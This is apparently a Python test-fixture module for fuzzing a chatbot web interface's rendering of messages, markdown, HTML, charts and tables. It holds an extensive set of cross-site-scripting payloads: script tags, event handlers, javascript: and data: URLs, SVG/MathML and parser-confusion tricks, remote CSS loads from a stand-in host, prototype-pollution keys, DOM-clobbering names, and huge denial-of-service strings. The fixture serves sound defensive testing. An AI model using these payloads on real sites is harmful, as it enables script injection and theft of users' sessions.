"""What somebody could say to harm a reader, by what it would do if the page took it for more than text.

`GROUPS` holds texts, `LARGE` very long ones, `WRONG` values that are no texts. `FRAMES` has every frame of the protocol
that carries something of a bot or a user, with a mark for each of its texts: `filled` puts texts in, `spoiled` puts one
value in place of one field after the other.
"""

import json
from typing import NamedTuple

from played_server import DEEP

# Whatever runs says so, to the page as well as to the frame that it may be in.
RUN = "top.__ran=window.__ran=1"
ELSEWHERE = "https://elsewhere.example"
DRAWING = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script><image href='{ELSEWHERE}/d'/></svg>"
PERCENT = DRAWING.replace("<", "%3C").replace(">", "%3E").replace("#", "%23")

GROUPS = {
    "scripts": [
        f"<script>{RUN}</script>",
        f"<ScRiPt\n>{RUN}</sCrIpT\t>",
        f'<script src="{ELSEWHERE}/a.js"></script>',
        f"<script type=module>{RUN}</script><script type=speculationrules>{{}}</script>",
        f"<script>{RUN}//",
        f"\"'--></title></textarea></script><script>{RUN}</script>",
        f"</p></div></body></html><script>{RUN}</script>",
    ],
    "handlers": [
        f'<img src=x onerror="{RUN}">',
        f"<img/src/onerror={RUN}>",
        f'<img src="data:image/png;base64,iVBORw0KGgo=" ONERROR\n=\n"{RUN}">',
        f'<img alt=">" src=x onerror="{RUN}">',
        f"<img alt='<a \"' src=x onerror={RUN}>",
        f"<svg onload={RUN}>",
        f"<body onload={RUN} onpageshow={RUN} onhashchange={RUN}>",
        f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>more</details><video><source onerror={RUN}></video>",
        f"<style>@keyframes k{{}}</style><b style='animation:k 1ms' onanimationstart={RUN}>b</b>",
        f"<marquee onstart={RUN}>x</marquee><audio src=x onerror={RUN}></audio>",
        f"<button popovertarget=p>x</button><div id=p popover onbeforetoggle={RUN}>y</div>",
    ],
    "links": [
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f" \t\n javascript:{RUN}",
        f"java\nscript:{RUN}",
        f"java\tscript:{RUN}",
        f"\x01javascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"&#106;avascript&#58;{RUN}",
        f"javascript://https://x.example/%0A{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,{PERCENT}",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://elsewhere.example/1",
        "filesystem:https://elsewhere.example/a",
        "view-source:https://elsewhere.example/",
        f"//elsewhere.example/a",
        f"\\\\elsewhere.example\\a",
        f"/\t/elsewhere.example/a",
        f"{ELSEWHERE}/a",
        "https://user:pass@elsewhere.example:99999/",
        "https://[::1",
    ],
    "links in markup": [
        f"[a](javascript:{RUN}) ![b](javascript:{RUN}) <javascript:{RUN}>",
        f"[a](  JaVaScRiPt&colon;{RUN}) [b](java&#10;script:{RUN}) [c](<java\tscript:{RUN}>)",
        f"[a][r] ![b][r]\n\n[r]: javascript:{RUN}",
        f"[a](data:text/html,<script>{RUN}</script>) ![b](data:image/svg+xml,{PERCENT})",
        f"[a](vbscript:x) [b](\\javascript:{RUN}) [c](https://x.example/\"onclick=\"{RUN})",
        f"![a]({ELSEWHERE}/a.png \"onerror={RUN}\") [![b]({ELSEWHERE}/b.png)](javascript:{RUN})",
        f"<a href=javascript:{RUN}>x</a><a href=' java\nscript:{RUN}'>y</a><a href=&#106;avascript:{RUN}>z</a>",
        f"<a href='data:text/html,<script>{RUN}</script>' target=_top>x</a><area href=javascript:{RUN}>",
        f"<a href='{ELSEWHERE}/a' target=_top>x</a><a href={ELSEWHERE}/a target='_self' popup=width=9>y</a>",
        f"$\\href{{javascript:{RUN}}}{{x}} \\htmlStyle{{background:url({ELSEWHERE}/k)}}{{y}}$ and $$\\includegraphics{{{ELSEWHERE}/p}}$$",
        f"https://x.example/<script>{RUN}</script> https://x.example/\"onmouseover=\"{RUN} www.x.example/'{RUN}",
        f"```<script>{RUN}</script>\n<b onclick={RUN}>\n```\n```__proto__\nx\n```\n```constructor\ny\n```",
    ],
    "drawings": [
        DRAWING,
        f"<svg><script href={ELSEWHERE}/a.js></script><script>{RUN}</script></svg>",
        f"<svg><a href=javascript:{RUN}><text y=20>x</text></a><a xlink:href=javascript:{RUN}><rect/></a></svg>",
        f"<svg><a><set attributeName=href to=javascript:{RUN} /><animate attributeName=xlink:href values=javascript:{RUN} />"
        "<text y=20>x</text></a></svg>",
        f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg><use href='data:image/svg+xml,{PERCENT}#a'/><use href={ELSEWHERE}/e.svg#a /></svg>",
        f"<svg><filter id=f><feImage href={ELSEWHERE}/f /></filter><rect filter='url({ELSEWHERE}/f.svg#f)' "
        f"mask='url(\"{ELSEWHERE}/m.svg#m\")' fill='u\\72l({ELSEWHERE}/p.svg#p)' width=9 height=9 /></svg>",
        f"<img src='data:image/svg+xml,{PERCENT}'><image href='data:image/svg+xml,{PERCENT}'/>",
    ],
    "formulas": [
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
        f"<math href=javascript:{RUN}><mtext href=javascript:{RUN}>x</mtext></math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    ],
    "styles": [
        "<style>* { display: none !important } html { background: red }</style>",
        f"<style>@import url({ELSEWHERE}/a.css); @import '{ELSEWHERE}/b.css'; @im\\70ort '{ELSEWHERE}/c.css';</style>",
        f"<style>body {{ background: url({ELSEWHERE}/1), u\\72l({ELSEWHERE}/2), \\75 \\72 \\6c({ELSEWHERE}/3) }}</style>",
        f"<style>body {{ background: ur\\6\\63 ({ELSEWHERE}/4); --x: image-set('{ELSEWHERE}/5' 1x); cursor: url({ELSEWHERE}/6), auto }}"
        f" b {{ background: var(--x); content: url( \n'{ELSEWHERE}/7' ) }}</style><b>b</b>",
        f"<style>@font-face {{ font-family: f; src: url({ELSEWHERE}/8), url(data:font/woff2;base64,AA==) }} b {{ font-family: f }}</style><b>b</b>",
        f"<b style='background:url({ELSEWHERE}/9);position:fixed;inset:0;z-index:99'>b</b>",
        f"<b style=\"behavior:url(#default#time2);width:expression({RUN});-moz-binding:url({ELSEWHERE}/x)\">b</b>",
        f"<svg><style>@import '{ELSEWHERE}/d.css'; rect {{ fill: url({ELSEWHERE}/10#a) }}</style><rect width=9 height=9 /></svg>",
        f"<b style='--x:;x:y}}body{{display:none'>b</b></style><style>*{{color:red}}",
        f"<span style=\"fill:url({ELSEWHERE}/11#a);filter:u\\72l({ELSEWHERE}/12#a);mask:url('{ELSEWHERE}/13#a')\">b</span>",
    ],
    "forms and frames": [
        f"<form action=javascript:{RUN}><input name=a autofocus><button formaction=javascript:{RUN}>send</button></form>",
        f"<form action={ELSEWHERE}/ target=_top><input type=password><input type=image src={ELSEWHERE}/i></form>",
        f"<iframe src=javascript:{RUN}></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe><iframe src={ELSEWHERE}/>",
        f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}><applet code=x></applet><portal src={ELSEWHERE}/></portal>",
        f"<object data='data:text/html,<script>{RUN}</script>' type=text/html></object><fencedframe></fencedframe>",
        f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>",
        f"<dialog open><form method=dialog><button autofocus>x</button></form></dialog>",
        f"<video src={ELSEWHERE}/v poster={ELSEWHERE}/p autoplay></video><audio src='data:audio/wav;base64,UklGRg==' autoplay controls></audio>",
    ],
    "heads": [
        f"<base href={ELSEWHERE}/ target=_top><a href=a>x</a>",
        f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'><meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\"><meta name=referrer content=unsafe-url>",
        f"<link rel=stylesheet href={ELSEWHERE}/a.css><link rel=preload as=image href={ELSEWHERE}/b><link rel=prefetch href={ELSEWHERE}/c>",
        f"<link rel=import href={ELSEWHERE}/d><link rel=manifest href={ELSEWHERE}/e><link rel=dns-prefetch href={ELSEWHERE}/>",
        f"<html manifest={ELSEWHERE}/><head><title>owned</title></head><body background={ELSEWHERE}/g>x",
    ],
    "tricks": [
        f"<template><script>{RUN}</script><img src=x onerror={RUN}></template>",
        f"<div><template shadowrootmode=open><img src=x onerror={RUN}><slot></slot></template>x</div>",
        f"<!--><img src=x onerror={RUN}>--><!-- --!><img src=x onerror={RUN}><!-",
        f"<![CDATA[<img src=x onerror={RUN}>]]><?xml version='1.0'?><!DOCTYPE x [<!ENTITY y '{RUN}'>]>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
        f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp><plaintext><img src=x onerror={RUN}>",
        f"<textarea><p title='</textarea><img src=x onerror={RUN}>'></textarea><title><p title='</title><img src=x onerror={RUN}>'>",
        f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f"<table><tr><td><select><option><script>{RUN}</script></table><svg><desc><b></svg><img src=x onerror={RUN}>",
        f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;img src=x onerror={RUN}&amp;gt; &#60;svg onload={RUN}&#62;",
        f"<x-y is=z slot=q onclick={RUN} data-off={RUN} x<y=1 \"='>b</x-y>",
        "{{constructor.constructor('top.__ran=1')()}} ${top.__ran=1} <%= 1 %> #{top.__ran=1}",
        "%3Cscript%3Etop.__ran=1%3C/script%3E \\x3cscript\\x3e \\u003cscript\\u003e",
    ],
    "names": [
        "<img name=body><img name=body><img name=querySelectorAll><img name=documentElement><b>b</b>",
        "<form><input name=attributes><input name=removeAttribute><input name=localName><input name=style></form>",
        "<form id=a><input name=childNodes><input name=remove></form><form id=a name=nodeName><b id=list>b</b></form>",
        "<div id=composer></div><div id=text></div><a id=name name=name href=x></a><img name=currentScript><img name=head>",
        "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf",
    ],
    "directions": [
        "\u202e<b>turned</b> gpj.exe",
        "\u202dleft\u202eright\u202a\u202b\u202c\u202eand on",
        "\u2066\u2067\u2068\u2069\u2069\u2069\u202eafter the isolates",
        "שלום \u202eעולם (abc) [def] 123",
        "\u200fright\u200eleft\u061c " + "\u202e" * 300,
    ],
    "marks": [
        "z\u0351\u0352\u0353" + "\u0310\u0321\u0335\u0489" * 200 + "algo",
        "ze\u200bro\u200c\u200d\ufeff\u2060wi\u00addth" + "\u200b" * 500,
        "\U000e0001\U000e0041" * 50 + "tags" + "\ufe0f" * 100,
        "🏳️‍🌈👨‍👩‍👧‍👦" * 200,
        "\ufdfd" * 200 + "𒐫" * 100,
    ],
    "broken": [
        "nul \x00 in it \x00<scr\x00ipt>" + RUN,
        "lone \ud800 and \udc00 turned \udc00\ud800 end\ud83d",
        "\ufffe\uffff\ufeff\x07\x08\x1b[31m\x7f\x85\u2028\u2029",
        "\r\n\r\r\n\t\v\f\x1c",
        "",
        " ",
    ],
    "long": [
        "a long name " * 400,
        "x" * 4000,
        "https://x.example/" + "a" * 4000,
        "_" * 300 + "." + "exe" * 300,
        "line\n" * 500,
    ],
}

# By name. Whatever takes time that grows faster than the text would not be done with these.
LARGE = {
    "opening brackets": "[" * 5_000_000,
    "one word": "w" * 1_000_000,
    "tags that never end": "<a " * 300_000,
    "tags with quotes that never end": "<a \"'" * 200_000,
    "addresses in styles that never end": "<style>" + "url(" * 200_000,
    "spaces in addresses of styles": "<style>a{b:url(" + " " * 500_000,
    "imports that never end": "<style>" + "@import " * 100_000,
    "letters by number": "<style>" + "\\6\\72 " * 100_000,
    "deep markup": "<b><i><svg>" * 3_000,
    "digits": "9" * 1_000_000,
    "quotations": "> " * 500_000,
    "formulas": "$a$ " * 20_000,
    # The browser itself needs quadratic time for them: ten times as many take minutes in any page.
    "combining marks": "a" + "\u0301" * 20_000,
}


# JSON that is no text. Objects like the last ones cannot be made into text, or reach for what all objects share.
WRONG = [
    None, True, 0, -1.5, 1e308, [], ["<img src=x onerror=top.__ran=1>", None], {}, {"a": {"b": [1]}}, DEEP,
    {"toString": 1, "valueOf": 2}, {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}},
    {"length": 1e9}, {"then": 1},
]


class Kept(NamedTuple):
    """A field that the page reads: with another value most messages are not what they are."""

    value: str


class Text(NamedTuple):
    """A field that the page shows."""


T = Text()


def fields(template, path=()):
    """Where the texts of a template are."""
    if isinstance(template, (Text, Kept)):
        yield path
    elif isinstance(template, dict):
        for key, part in template.items():
            yield from fields(part, (*path, key))
    elif isinstance(template, list):
        for index, part in enumerate(template):
            yield from fields(part, (*path, index))


def filled(template, text, is_all=False):
    """A template with the same text in each field, or in those alone that are shown."""
    if isinstance(template, Text):
        return text
    if isinstance(template, Kept):
        return text if is_all else template.value
    if isinstance(template, dict):
        return {key: filled(part, text, is_all) for key, part in template.items()}
    if isinstance(template, list):
        return [filled(part, text, is_all) for part in template]
    return template


def spoiled(template, value):
    """Copies of a template, each with `value` in place of another one of its fields."""
    for path in fields(template):
        if not path:
            yield value
            continue
        copy = filled(template, "words")
        place = copy
        for step in path[:-1]:
            place = place[step]
        place[path[-1]] = value
        yield copy


def named(name):
    """An object with one key that may be any text."""
    return json.loads(f"{{{json.dumps(name)}: 1}}")


FILE = {"name": T, "type": Kept("text/plain"), "size": 12, "url": Kept("/files/a")}
PICTURE = {"name": T, "type": Kept("image/svg+xml"), "size": 12, "url": Kept("/files/picture.svg")}
SOUND = {"name": T, "type": Kept("audio/wav"), "size": 12, "url": Kept("/files/sound.wav")}
COLUMN_TYPES = ["string", "integer", "number", "boolean", "date"]
TABLE = {
    "title": T,
    "columns": [{"name": T, "type": Kept(kind), "values": [T, T, None] + [1] * 20} for kind in COLUMN_TYPES],
}
AXIS = {"title": {"text": T}, "tickprefix": T, "ticktext": [T, T], "tickvals": [0, 1]}
FIGURE = {
    "data": [
        {
            "type": Kept("bar"), "name": T, "x": [T, T], "y": [1, 2], "text": [T, T], "hovertext": [T, T], "hovertemplate": T,
            "textposition": "inside", "customdata": [T, T], "meta": T, "legendgroup": T, "legendgrouptitle": {"text": T},
        },
        {"type": Kept("pie"), "labels": [T, T], "values": [1, 2], "textinfo": "label+text", "text": [T, T], "title": {"text": T},
         "domain": {"x": [0.6, 1], "y": [0.5, 1]}},
    ],
    "layout": {
        "title": {"text": T, "subtitle": {"text": T}},
        "xaxis": {**AXIS, "domain": [0, 0.5]},
        "yaxis": AXIS,
        "annotations": [{"text": T, "x": 0, "y": 1, "hovertext": T, "font": {"family": T, "color": T}, "xref": Kept("x")}],
        "images": [{"source": T, "x": 0, "y": 1, "sizex": 1, "sizey": 1, "xref": "paper", "yref": "paper"}],
        "shapes": [{"type": Kept("rect"), "x0": 0, "x1": 1, "y0": 0, "y1": 1, "label": {"text": T}}],
        "updatemenus": [{"buttons": [{"label": T, "method": "restyle", "args": ["name", T]}]}],
        "legend": {"title": {"text": T}},
        "font": {"family": T},
        "hovermode": Kept("closest"),
        "template": {"layout": {"annotationdefaults": {"hovertext": T}, "images": [{"source": T}]}},
    },
    "config": {"locale": T, "plotlyServerURL": T, "topojsonURL": T, "modeBarButtonsToAdd": [T], "linkText": T, "showLink": True},
}

# What messages of each action hold. The first of several are those with all that may be in one.
MESSAGES = [
    ("user_message", T),
    ("user_message", {"message": T, "other": T}),
    ("user_file", FILE),
    ("user_file", PICTURE),
    ("user_voice", SOUND),
    ("agent_reply_str", T),
    ("agent_reply_markdown", T),
    ("agent_reply_html", T),
    ("agent_reply_options", {"options": [{"label": T, "value": Kept("a"), "description": T}, {"label": T, "value": Kept("b")}]}),
    ("agent_reply_dataframe", TABLE),
    ("agent_reply_dataframe", {"title": T, "columns": [{"name": T, "type": Kept("string"), "values": [T]}], "rows": 5000, "csv": Kept("/files/t.csv")}),
    ("agent_reply_plotly", FIGURE),
    ("agent_reply_file", FILE),
    ("agent_reply_file", PICTURE),
    ("agent_reply_image", {**PICTURE, "description": T}),
    ("agent_reply_audio", SOUND),
    ("agent_reply_location", {"latitude": 49.6, "longitude": 6.1, "title": T}),
    ("agent_reply_location", {
        "latitude": 49.6, "longitude": 6.1, "title": T,
        "markers": [{"latitude": 49.6, "longitude": 6.1, "label": T}, {"latitude": 49.7, "longitude": 6.2, "label": T}],
    }),
    ("agent_reply_rag", {
        "llm_name": T, "question": T, "answer": T,
        "docs": [{"content": T, "metadata": {"source": T, "page": T}}, {"content": T, "metadata": {"source": "a.pdf", "page": 3}}],
    }),
    ("agent_reply_custom", {"name": T, "value": {"a": T, "b": [T]}}),
    ("agent_reply_unheard_of", {"a": T}),
]

# Frames that come after a message and are about it.
LATER = [
    ("agent_reply_options", {"type": "chosen", "value": T, "label": T}),
    ("user_voice", {"type": "transcript", "text": T}),
    ("agent_reply_dataframe", {"type": "rows", "from": 0, "count": 1, "columns": [[T]], "filter": T}),
    ("agent_reply_markdown", {"type": "stream_delta", "delta": T}),
    ("agent_reply_markdown", {"type": "stream_end", "reason": T}),
]

# What every message has, beside what it says.
AROUND = {"action": Kept("agent_reply_str"), "client_id": T, "timestamp": Kept("2026-01-01T12:00:00.000Z"), "chosen": {"value": T, "label": T},
          "transcript": T, "message": T, "open": False, "id": T}

# Messages with one long text each.
LONG = [
    ("user_message", T),
    ("agent_reply_str", T),
    ("agent_reply_markdown", T),
    ("agent_reply_html", T),
    ("agent_reply_options", {"options": [{"label": T, "value": "a"}]}),
    ("agent_reply_dataframe", {"columns": [{"name": "a", "type": "integer", "values": [T]}]}),
    ("agent_reply_dataframe", {"columns": [{"name": "a", "type": "string", "values": [T] + ["b"] * 20}]}),
    ("agent_reply_rag", {"answer": "a", "docs": [{"content": T}]}),
    ("agent_reply_custom", {"name": "a", "value": T}),
]
